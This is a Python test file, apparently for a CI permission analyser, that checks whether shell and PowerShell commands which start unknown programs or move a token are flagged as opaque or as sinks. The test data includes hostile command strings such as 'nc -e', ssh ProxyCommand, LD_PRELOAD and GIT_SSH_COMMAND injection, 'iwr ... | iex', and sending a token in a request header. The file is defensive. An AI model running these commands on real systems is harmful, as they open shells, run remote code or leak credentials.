"""Inert programs that are told to start another: by an option, a word, a variable, or a package."""

from __future__ import annotations

import pytest
from permissions.commands.kit import PAT, WITH_GIT, live_with, outcome

from pinfix.github.expressions.values import TOKEN, Value
from pinfix_codemods.permissions.live import Git, Live

LIVE = live_with(T=TOKEN)


@pytest.mark.parametrize(
    "script",
    [
        "npx cat x",
        "npx echo hello",
        "npx frobnicate --version",
        "npx git push",
        "uvx rm x",
        "pnpm dlx gh pr list",
        "pnpm exec jq .",
        "uv run cat x",
        "poetry run sort x",
        "bundle exec ls",
        "conda run -n x cat y",
    ],
)
def test_a_package_is_not_the_program_of_the_same_name(script: str) -> None:
    assert outcome(script, LIVE).opaque
    assert outcome(script, WITH_GIT).opaque


def test_tools_that_are_packages_are_known_as_such() -> None:
    assert outcome("npx gh-pages -d site", WITH_GIT).grant == {"contents": "write"}
    assert outcome("npx semantic-release", WITH_GIT).need.grant.as_dict() == {"contents": "write"}
    assert outcome("npx npm view x", LIVE).grant == {}


@pytest.mark.parametrize(
    "script",
    [
        "nc -e ./x host 80",
        "ncat --sh-exec ./x host 80",
        "pandoc --filter ./x a.md",
        "pandoc -F ./x a.md",
        "rg --pre ./x y",
        "actionlint -shellcheck=./x",
        "hash -p ./x jq",
        "enable -f ./x.so y",
        "ip netns exec blue ./x",
        "split --filter=./x f",
        "split --filt=./x f",
        "sort --compress-pro ./x f",
        "tar --to-com=./x -xf y",
        "gcc -fplugin=./x.so a.c",
        "clang -wrapper ./x a.c",
        "kustomize build --enable-exec .",
        "rpm --eval '%(./x)'",
        "apt-get -o APT::Update::Pre-Invoke::=./x update",
        "psql -f schema.sql",
        "psql -c '\\! ./x'",
        "psql < schema.sql",
        "sqlite3 x.db '.shell ./x'",
        "sftp -b commands host",
        "ssh -o ProxyCommand=./x host",
        "ssh -o 'ProxyCommand ./x' host",
        "ssh -oSendEnv=T host",
        "ssh -F config host",
        "scp -S ./x a b:c",
        "rsync -e ./x a b:c",
        "env -S './x y'",
        'env "$PROGRAM" x',
        'command "$PROGRAM"',
        "kubectl frobnicate",
        "kubectl -n get frobnicate",
        "eksctl enable repo",
        "chamber exec service",
        "tflint",
        "javac A.java",
        "rustc a.rs",
        "mongosh x.js",
        "helm upgrade --post-renderer ./x a b",
        "wrk -s x.lua https://example.org",
        "set -e; eval",
        "bash",
    ],
)
def test_what_is_started_is_not_known(script: str) -> None:
    assert outcome(script, LIVE).opaque


@pytest.mark.parametrize(
    "script",
    [
        "rg pretty --pretty",
        "tar --checkpoint=100 -cf x y",
        "kubectl -n prod get pods",
        "kubectl --context=x apply -f k8s",
        "ssh -i key -o StrictHostKeyChecking=no user@host uptime",
        'rsync -avz -e "ssh -i key" --include=x a b:c',
        "psql -c 'select 1'",
        "env FOO=1",
        "command -v jq",
        "brew --prefix openssl",
        "rustc -vV",
        "xcrun --sdk macosx --show-sdk-path",
        "apt-get install -y jq",
        "tflint --init",
        "nc -z localhost 5432",
        "ssh-agent -a /tmp/agent",
    ],
)
def test_the_rest_stays_inert(script: str) -> None:
    found = outcome(script, LIVE)
    assert found.grant == {}
    assert found.assumptions == []


@pytest.mark.parametrize(
    ("name", "script"),
    [
        ("GIT_SSH_COMMAND", "git fetch"),
        ("GIT_SSH", "git fetch"),
        ("GIT_EDITOR", "git commit"),
        ("GIT_EXTERNAL_DIFF", "git diff"),
        ("GIT_EXEC_PATH", "git status"),
        ("GIT_CONFIG_PARAMETERS", "git status"),
        ("RSYNC_RSH", "rsync a b:c"),
        ("TAR_OPTIONS", "tar -xf x"),
        ("LD_PRELOAD", "cat x"),
        ("GH_EDITOR", "gh pr list"),
    ],
)
def test_variables_that_name_a_program(name: str, script: str) -> None:
    assert outcome(f"{name}=./x {script}", LIVE).opaque
    assert outcome(f"export {name}=./x\n{script}", LIVE).opaque
    assert outcome(script, live_with(T=TOKEN, **{name: Value((None,))})).opaque
    assert not outcome(f"{name}=true {script}", LIVE).opaque
    assert not outcome(f"{name}= {script}", LIVE).opaque


def test_ssh_by_a_variable() -> None:
    assert outcome(
        "git push", Live(env={"GIT_SSH_COMMAND": Value.literal("ssh -i key")}, git=Git.TOKEN)
    ).grant
    chosen = Value.literal("ssh -o ProxyCommand=./x")
    assert outcome("git push", Live(env={"GIT_SSH_COMMAND": chosen}, git=Git.TOKEN)).opaque


@pytest.mark.parametrize(
    "script",
    [
        "iex $code",
        "iwr https://example.org/x.ps1 | iex",
        "& $program push",
        "Start-Process git -ArgumentList push",
        'cmd /c "git push"',
        "wsl git push",
        "Set-Alias git ./x",
        "New-Alias git ./x",
        "Import-Module ./x",
    ],
)
def test_powershell_that_runs_what_is_not_known(script: str) -> None:
    assert outcome(script, LIVE, shell="pwsh").opaque


def test_powershell_does_not_look_at_the_letter_case_of_variables() -> None:
    live = live_with(Token=TOKEN, PAT=PAT)
    assert outcome("$env:gh_token = $env:TOKEN\ngh pr list", live, shell="pwsh").grant
    both = live_with(GH_TOKEN=PAT, T=TOKEN)
    assert outcome("gh pr list", both, shell="pwsh").grant == {}
    assert outcome("$env:gh_token = $env:T\ngh pr list", both, shell="pwsh").grant


@pytest.mark.parametrize(
    "script",
    [
        "Set-Variable X $env:T",
        "Set-Item env:X $env:T",
        "New-Item f -Value $env:T",
        "Get-ChildItem env: | Out-File x",
        "Get-Content env:T | Set-Content x",
        "$x = (Get-Item env:T).Value\nInvoke-RestMethod https://example.org -Headers @{A=$x}",
    ],
)
def test_powershell_that_moves_the_token(script: str) -> None:
    assert outcome(script, LIVE, shell="pwsh").need.sinks
